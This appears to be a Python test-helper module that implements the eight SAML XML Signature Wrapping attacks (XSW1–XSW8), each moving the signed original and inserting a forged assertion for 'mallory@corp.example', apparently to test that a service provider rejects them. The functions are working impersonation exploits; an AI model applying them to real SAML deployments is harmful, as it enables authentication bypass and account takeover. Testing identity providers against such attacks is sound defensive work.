"""Signature wrapping: eight ways to show one document to who verifies a signature and another to who reads claims.

Each changes a Response after it was signed, so that the signature is still good for what it was made for.

Source: J. Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"; SAML Raider's XSW1 to XSW8.
"""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

from tests.federation.saml_provider import NAMESPACES

ANOTHER = "mallory@corp.example"


def the(element: etree._Element, path: str) -> etree._Element:
    """Return the first element at a path."""
    found = element.find(path, NAMESPACES)
    assert found is not None
    return found


def forge(element: etree._Element) -> None:
    """Let an element speak of somebody else, under another ID."""
    element.set("ID", "_forged")
    the(element, ".//saml:NameID").text = ANOTHER


def forge_all(response: etree._Element) -> None:
    """Let a Response and its assertion speak of somebody else, under other IDs."""
    forge(response)
    the(response, "saml:Assertion").set("ID", "_forged2")


def original_response_in_signature(response: etree._Element) -> None:
    original, signature = deepcopy(response), the(response, "ds:Signature")
    original.remove(the(original, "ds:Signature"))
    forge_all(response)
    signature.append(original)


def original_response_beside_signature(response: etree._Element) -> None:
    original, signature = deepcopy(response), the(response, "ds:Signature")
    original.remove(the(original, "ds:Signature"))
    forge_all(response)
    signature.addprevious(original)


def forged_assertion_first(response: etree._Element) -> None:
    original = the(response, "saml:Assertion")
    forged = _forged_copy(original)
    original.addprevious(forged)


def forged_assertion_around(response: etree._Element) -> None:
    original = the(response, "saml:Assertion")
    forged = _forged_copy(original)
    response.replace(original, forged)
    forged.append(original)


def forged_assertion_with_the_signature(response: etree._Element) -> None:
    forged = the(response, "saml:Assertion")
    original = deepcopy(forged)
    original.remove(the(original, "ds:Signature"))
    forge(forged)
    response.append(original)


def original_assertion_in_signature(response: etree._Element) -> None:
    forged = the(response, "saml:Assertion")
    original = deepcopy(forged)
    original.remove(the(original, "ds:Signature"))
    forge(forged)
    the(forged, "ds:Signature").append(original)


def forged_assertion_in_extensions(response: etree._Element) -> None:
    original = the(response, "saml:Assertion")
    extensions = etree.Element(f"{{{NAMESPACES['samlp']}}}Extensions")
    extensions.append(_forged_copy(original))
    original.addprevious(extensions)


def original_assertion_in_object(response: etree._Element) -> None:
    forged = the(response, "saml:Assertion")
    original = deepcopy(forged)
    original.remove(the(original, "ds:Signature"))
    forge(forged)
    etree.SubElement(the(forged, "ds:Signature"), f"{{{NAMESPACES['ds']}}}Object").append(original)


def _forged_copy(original: etree._Element) -> etree._Element:
    forged = deepcopy(original)
    forged.remove(the(forged, "ds:Signature"))
    forge(forged)
    return forged
